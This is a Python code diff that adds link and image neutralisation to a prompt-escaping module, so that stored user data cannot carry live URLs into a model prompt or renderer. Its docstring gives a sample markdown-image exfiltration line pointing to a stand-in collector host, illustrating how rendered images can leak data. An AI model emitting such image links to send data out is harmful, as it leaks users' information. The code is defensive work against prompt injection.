@@ -54,6 +54,38 @@ _ROLE_LINE_RE = re.compile(
 )
 
 
+_MD_IMAGE_RE = re.compile(r"!\[([^\]\n]{0,200})\]\s*(?:\([^)\n]*\)?|\[[^\]\n]*\]?)")
+_MD_LINK_RE = re.compile(r"\[([^\]\n]{0,200})\]\s*\(([^)\n]*)\)?")
+_URL_RE = re.compile(
+    r"(?i)\b(?:(?:https?|ftp|wss?|file|data|javascript|vbscript):/{0,3}|www\.)[^\s<>\"')\]]*"
+)
+_HOST_RE = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*:/{0,3})?(?:[^@/\s]*@)?([^/?#:\s]+)")
+
+
+def neutralise_links(text: str) -> str:
+    """Links and images of stored text made inert for a renderer and a model.
+
+    A markdown image becomes ``[image: alt]`` (rendering one fetches its URL, which can
+    carry data out: ``![a](https://collector.example/log?d=…)``); a markdown link keeps its
+    text; every URL (``http``, ``data:``, ``javascript:``, ``www.`` …) becomes
+    ``⟨link to host⟩``, its path and query (where leaked data would ride) dropped, so no
+    renderer or tool can follow it. Text without links comes back unchanged.
+    """
+    if "[" not in text and ":" not in text and "www." not in text.casefold():
+        return text
+    text = _MD_IMAGE_RE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
+    text = _MD_LINK_RE.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if m.group(2) else m.group(0),
+                           text)
+    return _URL_RE.sub(_link_host, text)
+
+
+def _link_host(url: re.Match[str]) -> str:
+    found = _HOST_RE.match(url.group(0))
+    host = found.group(1) if found else ""
+    host = host.removeprefix("www.").strip(".")
+    return f"⟨link to {host}⟩" if host and "." in host else "⟨link removed⟩"
+
+
 def wrap_block(tag: str, body: str) -> str:
     """Wrap user data in one of Penchant's tags, with the data note.
 
@@ -90,6 +122,8 @@ def escape_data(text: str) -> str:
     - Bracketed template tokens become parenthesised (``[INST]`` → ``(INST)``), and a
       line that opens with a role header (``system:``, ``### Instruction:``,
       ``Human:``) is quoted with ``> ``.
+    - Links and images are neutralised (:func:`neutralise_links`): no URL reaches the
+      prompt.
 
     Args:
         text: One or more lines of user data.
@@ -101,6 +135,7 @@ def escape_data(text: str) -> str:
         text = "".join(_printable_char(c) for c in text)
     elif not text.isascii():
         text = _PRINTABLE_INVISIBLE_RE.sub("", text)
+    text = neutralise_links(text)
     text = text.replace("<", "&lt;").replace(">", "&gt;")
     text = _TAG_NAME_RE.sub(lambda m: m.group(0).replace("_", "-"), text)
     text = _BRACKET_TOKEN_RE.sub(r"(\1)", text)
@@ -173,6 +208,7 @@ __all__ = [
     "DATA_NOTE",
     "contains_injected_block",
     "escape_data",
+    "neutralise_links",
     "strip_injected_blocks",
     "wrap_block",
 ]
